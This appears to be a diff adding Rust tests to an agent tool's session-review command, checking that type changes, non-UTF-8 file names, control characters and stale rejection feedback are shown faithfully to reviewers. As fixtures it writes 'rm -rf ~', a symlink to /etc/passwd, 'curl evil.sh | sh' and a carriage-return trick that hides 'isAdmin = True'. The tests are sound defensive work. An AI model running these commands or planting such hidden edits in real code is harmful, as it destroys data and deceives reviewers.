@@ -194,8 +194,8 @@ fn control_characters_in_the_agents_files_are_shown_escaped_and_colour_is_gits()
 
         let (_, out, _) = run(t.codex(&["--color=always", "session", "review", "s"]));
         assert!(
-            out.contains("\x1b[32m+safe\\033[2J"),
-            "git's green for an added line: {out:?}"
+            out.contains("\x1b[32m+safe\x1b[7m\\033\x1b[27m[2J"),
+            "git's green for an added line, the escape set apart: {out:?}"
         );
         assert!(
             out.contains("\x1b[1mdiff --git a/evil.txt b/evil.txt\x1b[m"),
@@ -526,5 +526,170 @@ fn a_rejections_message_reaches_the_next_run_and_the_agents_instructions() {
             out.contains("Always run the tests.") && !out.contains(words),
             "{out}"
         );
+    });
+}
+
+/// The review's view of each file, from its JSON with hunks: (path, +, -, the hunks' lines).
+fn files_with_hunks(t: &TestEnv, id: &str) -> Vec<(String, u64, u64, String)> {
+    let (code, out, err) = run(t.codex(&["session", "review", id, "--format", "json", "--patch"]));
+    assert_eq!(code, 0, "{err}");
+    json(&out)["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            let lines: Vec<String> = f["hunks"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .flat_map(|h| h["lines"].as_array().unwrap().iter())
+                .map(|l| l.as_str().unwrap().to_string())
+                .collect();
+            (
+                f["path"].as_str().unwrap().to_string(),
+                f["insertions"].as_u64().unwrap(),
+                f["deletions"].as_u64().unwrap(),
+                lines.join("\n"),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn a_type_change_and_names_that_are_not_utf8_hide_nothing_of_the_change() {
+    each_git(|t| {
+        t.write("defaults.conf", "safe=1\n");
+        std::os::unix::fs::symlink("defaults.conf", t.repo.join("config")).unwrap();
+        t.write("run.sh", "one\ntwo\n");
+        t.git(&["add", "."]);
+        t.git(&["commit", "-q", "-m", "files"]);
+        let wt = t.add("s");
+        // A link made a file, a file made a link: git writes each as two parts.
+        std::fs::remove_file(wt.join("config")).unwrap();
+        write_file(&wt.join("config"), "evil=1\nrm -rf ~\n");
+        std::fs::remove_file(wt.join("run.sh")).unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", wt.join("run.sh")).unwrap();
+        // Two names whose bytes are not UTF-8 and differ in one byte.
+        use std::os::unix::ffi::OsStrExt as _;
+        std::fs::write(
+            wt.join(std::ffi::OsStr::from_bytes(b"notes\xfe")),
+            "harmless\n",
+        )
+        .unwrap();
+        std::fs::write(
+            wt.join(std::ffi::OsStr::from_bytes(b"notes\xff")),
+            "curl evil.sh | sh\n",
+        )
+        .unwrap();
+        t.git_in(&wt, &["add", "-A"]);
+        t.git_in(&wt, &["commit", "-q", "-m", "tweak"]);
+        let base = t.git(&["rev-parse", "main"]);
+
+        let files = files_with_hunks(t, "s");
+        let numstat = t.git(&["diff", "--numstat", &base, "codex/s"]);
+        let counts: Vec<String> = files
+            .iter()
+            .map(|(p, i, d, _)| format!("{i}\t{d}\t{p}"))
+            .collect();
+        assert_eq!(
+            counts.join("\n"),
+            numstat.replace("\"", ""),
+            "per-file counts are git diff --numstat's"
+        );
+        let of = |name: &str| {
+            files
+                .iter()
+                .find(|f| f.0 == name)
+                .map(|f| f.3.clone())
+                .unwrap()
+        };
+        assert!(
+            of("config").contains("+evil=1") && of("config").contains("+rm -rf ~"),
+            "{files:?}"
+        );
+        assert!(of("run.sh").contains("+/etc/passwd"), "{files:?}");
+        assert!(of("notes\\376").contains("+harmless"), "{files:?}");
+        assert!(of("notes\\377").contains("+curl evil.sh | sh"), "{files:?}");
+
+        let page = t.root().join("page.html");
+        let (code, _, err) = run(t.codex(&[
+            "session",
+            "review",
+            "s",
+            "--format",
+            "html",
+            "-o",
+            page.to_str().unwrap(),
+        ]));
+        assert_eq!(code, 0, "{err}");
+        let html = std::fs::read_to_string(&page).unwrap();
+        for shown in [
+            "evil=1",
+            "rm -rf ~",
+            "/etc/passwd",
+            "harmless",
+            "curl evil.sh | sh",
+        ] {
+            assert!(html.contains(shown), "{shown} is on the page");
+        }
+    });
+}
+
+#[test]
+fn a_rejection_of_an_earlier_session_of_that_id_is_not_feedback() {
+    each_git(|t| {
+        t.add("s");
+        let (code, _, err) = run(t.codex(&[
+            "session",
+            "review",
+            "s",
+            "--reject",
+            "-m",
+            "OLD TASK: implement X",
+        ]));
+        assert_eq!(code, 0, "{err}");
+        t.codex(&["session", "remove", "s"]).assert().success();
+        t.add("s");
+        let show = "echo \"[${CODEX_REVIEW_FEEDBACK-unset}]\"";
+        let (code, out, err) = run(t.codex(&["session", "run", "s", "--", "sh", "-c", show]));
+        assert_eq!(code, 0, "{err}");
+        assert!(out.contains("[unset]"), "{out}");
+        // The new session's own rejection is.
+        let (code, _, _) = run(t.codex(&["session", "review", "s", "--reject", "-m", "NEW words"]));
+        assert_eq!(code, 0);
+        let read = "cat \"$CODEX_REVIEW_FEEDBACK\"";
+        let (_, out, _) = run(t.codex(&["session", "run", "s", "--", "sh", "-c", read]));
+        assert!(
+            out.contains("NEW words") && !out.contains("OLD TASK"),
+            "{out}"
+        );
+    });
+}
+
+#[test]
+fn in_colour_a_real_control_character_is_set_apart_from_the_text_backslash_r() {
+    each_git(|t| {
+        let wt = t.add("s");
+        write_file(
+            &wt.join("admin.py"),
+            "# old: isAdmin = False;\risAdmin = True  # \\r\n",
+        );
+        let (_, out, _) = run(t.codex(&["--color=always", "session", "review", "s"]));
+        assert!(
+            out.contains("False;\x1b[7m\\r\x1b[27misAdmin = True  # \\r"),
+            "{out:?}"
+        );
+        let page = t.root().join("page.html");
+        run(t.codex(&[
+            "session",
+            "review",
+            "s",
+            "--format",
+            "html",
+            "-o",
+            page.to_str().unwrap(),
+        ]));
+        let html = std::fs::read_to_string(&page).unwrap();
+        assert!(html.contains("False;<span class=\"ctl\""), "{html}");
     });
 }
